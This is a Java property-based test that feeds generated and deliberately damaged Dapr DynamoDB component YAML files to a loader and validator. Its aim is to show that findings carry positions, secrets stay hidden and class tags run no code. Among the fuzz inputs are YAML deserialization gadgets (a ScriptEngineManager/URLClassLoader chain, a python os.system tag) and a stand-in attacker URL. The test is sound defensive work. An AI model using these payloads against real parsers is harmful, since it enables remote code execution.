package io.statedesk.component;

import static io.statedesk.testing.Generated.forAll;
import static io.statedesk.testing.Generated.oneOf;
import static io.statedesk.testing.Generated.weight;
import static org.assertj.core.api.Assertions.assertThat;

import io.statedesk.component.model.ComponentManifest;
import io.statedesk.component.model.ComponentSet;
import io.statedesk.component.model.DynamoDbComponentConfig;
import io.statedesk.component.model.Violation;
import io.statedesk.component.validation.ComponentValidator;
import io.statedesk.component.yaml.ComponentFileReader;
import io.statedesk.testing.Generated;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The component loader and validator under generated files (issue 13): components built from daprd's fields and
 * then damaged (lines dropped, repeated, re-indented, tags, anchors, document separators, stray bytes). Whatever the
 * file, loading and validating return findings with a position; no exception escapes, and a class tag runs no code.
 */
class ComponentLoaderPropertyTest {

    @TempDir
    Path dir;

    @Test
    void anyFile_loadsAndValidates_intoFindingsWithAPosition() {
        Path file = dir.resolve("c.yaml");
        forAll(2000, ComponentLoaderPropertyTest::componentFile, text -> {
            Files.write(file, text.getBytes(StandardCharsets.UTF_8));

            ComponentSet set = ComponentLoader.load(file);
            List<Violation> findings = ComponentValidator.validate(set);

            assertThat(findings).allSatisfy(v -> {
                assertThat(v.message()).isNotBlank();
                assertThat(v.line()).isGreaterThanOrEqualTo(0);
            });
            for (ComponentManifest manifest : set.dynamoDbComponents()) {
                DynamoDbComponentConfig config = DynamoDbComponentConfig.from(manifest);
                // Credentials are Secrets: whatever the file holds, printing the settings never shows them.
                assertThat(config.secretKey().toString()).doesNotContain("s3cr3t-value");
                try {
                    PreparedStore.prepare(set, manifest, Map.of("DDB_ENDPOINT", "http://localhost:8000"), null, null);
                } catch (io.statedesk.component.aws.AwsSetupException e) {
                    // A documented refusal (for example IAM Roles Anywhere): it must say what and what to do.
                    assertThat(e.getMessage()).isNotBlank();
                    assertThat(e.fix()).isNotBlank();
                }
            }
        });
    }

    @Test
    void anyBytes_areReadOrRefused() {
        Path file = dir.resolve("bytes.yaml");
        forAll(1000, random -> Generated.bytes(random, 200), bytes -> {
            var loaded = ComponentFileReader.parse(file, bytes);

            // Read (possibly with findings) or refused with exactly one reason; every finding says something.
            assertThat(loaded.wasRead() || loaded.problems().size() == 1).isTrue();
            assertThat(loaded.problems()).allSatisfy(v -> assertThat(v.message()).isNotBlank());
            assertThat(loaded.components()).allSatisfy(c -> assertThat(c.file()).isEqualTo(file));
        });
    }

    private static String componentFile(Random random) {
        List<String> lines = new ArrayList<>();
        for (String doc : Generated.listOf(random, 1, 3, ComponentLoaderPropertyTest::document)) {
            lines.add("---");
            lines.addAll(List.of(doc.split("\n", -1)));
        }
        for (int edits = random.nextInt(7); edits > 0; edits--) {
            damage(random, lines);
        }
        return String.join("\n", lines);
    }

    private static String document(Random random) {
        return Generated.weighted(random, List.of(
                weight(5, r -> "apiVersion: dapr.io/v1alpha1\nkind: Component\nmetadata:\n  name: statestore\nspec:\n"
                        + "  type: state.aws.dynamodb\n  version: v1\n  metadata:\n"
                        + String.join("\n", Generated.listOf(r, 0, 12, ComponentLoaderPropertyTest::item))
                        + "\nauth:\n  secretStore: local\n"),
                weight(1, r -> "apiVersion: dapr.io/v1alpha1\nkind: Component\nmetadata:\n  name: local\nspec:\n"
                        + "  type: secretstores.local.env\n  version: v1\n"),
                weight(1, r -> Generated.anyString(r, 60))));
    }

    private static String item(Random random) {
        String name = oneOf(random, "table", "endpoint", "region", "awsRegion", "accessKey", "secretKey",
                "sessionToken", "ttlAttributeName", "partitionKey", "keyPrefix", "actorStateStore", "trustAnchorArn",
                "trustProfileArn", "assumeRoleArn", "Table", "tabel", "", "\"quoted\"", "&anchor table", "*alias",
                "!!java.net.URL", "[flow]", "{a: b}");
        String value = random.nextBoolean()
                ? "    value: " + oneOf(random, "dapr-state", "\"\"", "''", "http://localhost:8000",
                        "http://127.attacker.example", "us-east-1", "AKIAEXAMPLESECRET", "s3cr3t-value", "true", "~",
                        "|\n      multi\n      line", ">-\n      folded", "!!binary aGk=",
                        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                        "&a v", "*a", "[1, 2]", "{x: y}", "\"\\u00e9\\x\"", "12345678901234567890", "\"||\"")
                : oneOf(random, "    secretKeyRef:\n      name: creds\n      key: id",
                        "    secretKeyRef:\n      name: \"\"", "    envRef: DDB_ENDPOINT", "    envRef: \"\"",
                        "    value:", "");
        return "  - name: " + name + "\n" + value;
    }

    /** One change to a file's lines. */
    private static void damage(Random random, List<String> lines) {
        String text = oneOf(random, "---", "--- trailing", "...", "\t", "- ", ":", "&x", "*x",
                "!!python/object:os.system", "%YAML 1.1", "? complex", "{", "]", "\uFEFF", "\u0000", "#", "'",
                "key: [a, *y]");
        if (lines.isEmpty()) {
            lines.add(text);
            return;
        }
        int i = random.nextInt(lines.size());
        switch (random.nextInt(6)) {
            case 0 -> lines.remove(i);
            case 1 -> lines.add(i, lines.get(i));
            case 2 -> lines.set(i, " " + lines.get(i));
            case 3 -> lines.set(i, lines.get(i).stripLeading());
            case 4 -> lines.add(i, text);
            default -> lines.set(i, lines.get(i) + text);
        }
    }
}
